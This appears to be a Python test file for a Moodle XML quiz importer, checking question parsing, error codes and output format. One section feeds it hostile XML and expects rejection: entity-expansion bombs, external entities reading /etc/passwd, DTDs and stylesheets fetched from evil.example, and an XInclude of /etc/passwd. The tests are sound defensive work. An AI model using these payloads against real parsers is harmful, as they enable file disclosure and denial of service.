"""Section 4 of the formats' rules, construct by construct, and B03: what a hostile file is answered with."""

import base64
from decimal import Decimal

import pytest

from quizzes.interchange import moodle_xml
from quizzes.interchange.values import Unreadable
from quizzes.questions import choice, matching, numeric, text, written

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(20)).decode()


def question(kind: str, inside: str, *, stem: str = "Q?", layout: str = "html", head: str = "") -> str:
    return (
        f'<question type="{kind}"><name><text>N</text></name>{head}<questiontext format="{layout}"><text>{stem}</text>'
        f"</questiontext>{inside}</question>"
    )


def read(*questions: str):
    return moodle_xml.read(f'<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n{"".join(questions)}\n</quiz>'.encode())


def only(*questions: str):
    reading = read(*questions)
    assert len(reading.items) == 1, [str(problem) for problem in reading.all_problems]
    return reading.items[0]


def codes(*questions: str) -> list[tuple[str, str]]:
    return [(each.severity, each.code) for each in read(*questions).all_problems if each.code != "not-ready"]


def answer(fraction: str, said: str, feedback: str = "", more: str = "") -> str:
    return (
        f'<answer fraction="{fraction}"><text>{said}</text><feedback><text>{feedback}</text></feedback>{more}</answer>'
    )


TWO = answer("100", "a", "x") + answer("0", "b", "y")


@pytest.mark.parametrize(
    ("kind", "inside", "prompt", "key"),
    [
        ("multichoice", f"<single>true</single>{TWO}", choice.Prompt("single", "", "Q?", ("a", "b")), choice.Key((0,), ("x", "y"))),
        ("multichoice", f"<single>false</single>{answer('50', 'a')}{answer('50', 'b')}{answer('-50', 'c')}", choice.Prompt("multiple", "", "Q?", ("a", "b", "c")), choice.Key((0, 1), ("",) * 3)),
        ("multichoice", f"<answernumbering></answernumbering>{TWO}", choice.Prompt("single", "", "Q?", ("a", "b")), choice.Key((0,), ("x", "y"))),
        ("truefalse", answer("0", "false", "f") + answer("100", "true", "t"), choice.Prompt("true_false", "", "Q?", ("True", "False")), choice.Key((0,), ("t", "f"))),
        ("shortanswer", f"<usecase>1</usecase>{answer('100', 'pH', 'x')}{answer('50', 'PH')}", text.Prompt("text", "", "Q?"), text.Key((text.Accepted("pH", 100, "x"), text.Accepted("PH", 50)), True)),
        ("numerical", answer("100", "3.14", "", "<tolerance>0.01</tolerance>") + answer("0", "3", "Cut.") + "<units><unit><multiplier>1</multiplier><unit_name>mm Hg</unit_name></unit></units>", numeric.Prompt("numeric", "", "Q?", "mm Hg"), numeric.Key(Decimal("3.14"), Decimal("0.01"), (numeric.Wrong(Decimal(3), "Cut."),))),
        ("essay", "<minwordlimit>5</minwordlimit><maxwordlimit>20</maxwordlimit><graderinfo format='plain_text'><text>one\ntwo</text></graderinfo>", written.Prompt("written", "", "Q?", ("one", "two"), 0, 5, 20), written.Key(("", ""), "")),
    ],
)  # fmt: skip
def test_each_type_is_read(kind, inside, prompt, key):
    found = only(question(kind, inside)).question

    assert (found.prompt, found.key) == (prompt, key)


@pytest.mark.parametrize("kind", ["matching", "match"])
def test_matching_has_a_distractor_without_a_left_side(kind):
    pairs = "".join(
        f'<subquestion format="html"><text>{left}</text><answer><text>{right}</text></answer></subquestion>'
        for left, right in (("a", "x"), ("b", "y"), ("", "z"))
    )

    assert only(question(kind, pairs)).question == matching.arrange("Q?", [("a", "x", ""), ("b", "y", "")], [("z", "")])


def test_common_parts_are_read():
    head = (
        "<defaultgrade>2.5000000</defaultgrade><idnumber>nm-1</idnumber><generalfeedback><text>See.</text></generalfeedback>"
        "<tags><tag><text>obj:C1-O1</text></tag><tag><text>must-pass</text></tag></tags>"
    )
    category = '<question type="category"><category><text>$course$/top/M1</text></category></question>'

    item = only(category, question("multichoice", TWO, head=head))

    assert (item.code, item.points, item.objective, item.safety, item.pool) == (
        "nm-1",
        Decimal("2.5"),
        "C1-O1",
        True,
        "M1",
    )
    assert item.question.key.rationales == ("x\n\nSee.", "y")


@pytest.mark.parametrize(
    ("layout", "stem", "plain"),
    [
        ("html", "<![CDATA[<p>A &amp; B</p><hr><p>C</p>]]>", "A & B\n\n---\n\nC"),
        ("plain_text", "&lt;p&gt;", "<p>"),
        ("markdown", "**A**", "A"),
        ("moodle_auto_format", "A &lt; B", "A < B"),
        ("nonsense", "&lt;i&gt;A&lt;/i&gt;", "A"),
        ("html", "]]]]><![CDATA[>", "]]>"),
        ("html", "<![CDATA[A]]]]><![CDATA[>B]]>", "A]]>B"),
    ],
)
def test_texts_by_their_format(layout, stem, plain):
    if stem.startswith("]]]]"):
        stem = f"<![CDATA[{stem}]]>"

    assert only(question("multichoice", TWO, stem=stem, layout=layout)).question.prompt.stem == plain


@pytest.mark.parametrize(
    ("asked", "found"),
    [
        (question("cloze", ""), [("error", "type-unsupported")]),
        (question("multianswer", ""), [("error", "type-unsupported")]),
        (question("description", ""), [("error", "type-unsupported")]),
        (question("calculated", ""), [("error", "type-unsupported")]),
        (question("ddmarker", ""), [("error", "type-unsupported")]),
        (question("gapselect", ""), [("error", "type-unsupported")]),
        (question("truefalse", answer("100", "wahr") + answer("0", "falsch")), [("warning", "true-false-words")]),
        (question("multichoice", answer("100", "a") + answer("33", "b")), [("error", "weight-list")]),
        (question("multichoice", answer("x", "a") + answer("0", "b")), [("error", "weight-list"), ("error", "no-key")]),
        (question("multichoice", answer("100", "a") * 2), [("warning", "many-right")]),
        (question("multichoice", "<single>true</single>"), [("error", "option-few"), ("error", "no-key")]),
        (question("multichoice", TWO + "<correctfeedback><text>Well done.</text></correctfeedback>"), [("note", "feedback-dropped")]),
        (question("multichoice", TWO + "<correctresponsesfeedback>Old.</correctresponsesfeedback>"), [("note", "feedback-dropped")]),
        (question("multichoice", TWO + "<hint><text>Think.</text></hint>"), [("note", "feedback-dropped")]),
        (question("multichoice", TWO + "<hintcontent><text>Old.</text></hintcontent>"), [("note", "feedback-dropped")]),
        (question("multichoice", TWO + f'<file name="a.png" encoding="base64">{PNG}</file>'), [("warning", "media-dropped")]),
        (question("multichoice", TWO + f"<image>a.png</image><image_base64>{PNG}</image_base64>"), [("warning", "media-dropped")]),
        (question("multichoice", TWO + f'<file name="a.mp3">{PNG}</file>'), [("error", "media-type")]),
        (question("multichoice", TWO + f'<file name="a.svg">{PNG}</file>'), [("error", "media-type")]),
        (question("multichoice", TWO + '<file name="a.png">!!</file>'), [("error", "media-base64")]),
        (question("multichoice", TWO, stem="@@PLUGINFILE@@/b.png"), [("warning", "media-missing")]),
        ("<other/>", [("warning", "xml-element")]),
        (question("numerical", answer("100", "2,5")), [("error", "gift-number")]),
        (question("numerical", answer("100", "1..3")), [("error", "gift-number")]),
    ],
)  # fmt: skip
def test_what_has_no_place_here_or_is_wrong_is_named(asked, found):
    expected = [each for each in found]
    reported = codes(asked)
    if ("error", "media-type") in expected or ("error", "media-base64") in expected:
        reported = [each for each in reported if each != ("warning", "media-dropped")]

    assert sorted(reported) == sorted(expected)


def test_a_fraction_as_a_child_element_is_accepted():
    old = "<answer><fraction>100</fraction><text>a</text></answer><answer><fraction>0</fraction><text>b</text></answer>"

    assert only(question("multichoice", old)).question.key.correct == (0,)


def test_a_problem_has_line_column_and_path():
    problem = read(
        question("cloze", ""), "\n  ", question("multichoice", answer("100", "a") + answer("33", "b"))
    ).all_problems[1]

    assert (problem.place.line, problem.place.path) == (4, "/quiz/question[2]/answer[2]/@fraction")


# --- B03 ------------------------------------------------------------------------------------------------------------------------

BOMB = '<!DOCTYPE quiz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><quiz><question type="essay">&b;</question></quiz>'
ESSAY = question("essay", "")
ATTRIBUTE = 'a{}="1"'


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (BOMB, "xml-doctype"),
        ("<!DOCTYPE quiz><quiz/>", "xml-doctype"),
        ('<!DOCTYPE quiz SYSTEM "http://evil.example/x.dtd"><quiz/>', "xml-doctype"),
        ('<!DOCTYPE quiz [<!ENTITY x SYSTEM "file:///etc/passwd">]><quiz>&x;</quiz>', "xml-doctype"),
        ('<!DOCTYPE quiz [<!ENTITY % x SYSTEM "http://evil.example/">%x;]><quiz/>', "xml-doctype"),
        ("<quiz>&x;</quiz>", "xml-broken"),
        ("<quiz>", "xml-broken"),
        ("<html/>", "xml-root"),
        ("<quiz>" + "<a>" * 10_000 + "</a>" * 10_000 + "</quiz>", "xml-deep"),
        ('<?xml version="1.0" encoding="UTF-7"?><quiz/>', "file-encoding"),
        ('<?xml version="1.0" encoding="UTF-16"?><quiz/>', "file-encoding"),
        ("<quiz>" + ESSAY * 10_001 + "</quiz>", "items-many"),
    ],
)  # fmt: skip
def test_b03_a_hostile_file_is_refused(data, code):
    with pytest.raises(Unreadable) as refusal:
        moodle_xml.read(data.encode())

    assert refusal.value.problem.code == code


@pytest.mark.parametrize(
    "data",
    [
        f'<?xml-stylesheet href="http://evil.example/x.xsl"?><quiz>{ESSAY}</quiz>',
        f'<quiz xmlns:xi="http://www.w3.org/2001/XInclude">{ESSAY}<xi:include href="/etc/passwd" parse="text"/></quiz>',
        f"<quiz>{ESSAY}<!-- a remark --></quiz>",
        f"<quiz {' '.join(map(ATTRIBUTE.format, range(50_000)))}>{ESSAY}</quiz>",
    ],
    ids=["stylesheet", "xinclude", "comment", "attributes"],
)  # fmt: skip
def test_b03_what_asks_for_more_is_passed_over(data):
    assert [item.question.prompt.stem for item in moodle_xml.read(data.encode()).items] == ["Q?"]


def test_xml_is_written_in_its_one_form():
    item = only(
        question(
            "truefalse", answer("100", "true", "t") + answer("0", "false", "&lt;b&gt;"), head="<idnumber>x</idnumber>"
        )
    )

    assert moodle_xml.write([item]).decode() == (
        '<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n'
        '  <question type="category">\n    <category><text>$course$/top/</text></category>\n'
        '    <info format="plain_text"><text></text></info>\n    <idnumber></idnumber>\n  </question>\n'
        '  <question type="truefalse">\n    <name><text>x</text></name>\n'
        '    <questiontext format="plain_text"><text>Q?</text></questiontext>\n'
        '    <generalfeedback format="plain_text"><text></text></generalfeedback>\n'
        "    <defaultgrade>1</defaultgrade>\n    <penalty>1</penalty>\n    <hidden>0</hidden>\n    <idnumber>x</idnumber>\n"
        '    <answer fraction="100" format="moodle_auto_format">\n      <text>true</text>\n'
        '      <feedback format="plain_text"><text>t</text></feedback>\n    </answer>\n'
        '    <answer fraction="0" format="moodle_auto_format">\n      <text>false</text>\n'
        '      <feedback format="plain_text"><text>&lt;b&gt;</text></feedback>\n    </answer>\n'
        "    <tags>\n      <tag><text>bloom:Understand</text></tag>\n    </tags>\n  </question>\n</quiz>\n"
    ).replace("&lt;b&gt;</text></feedback>", "</text></feedback>")
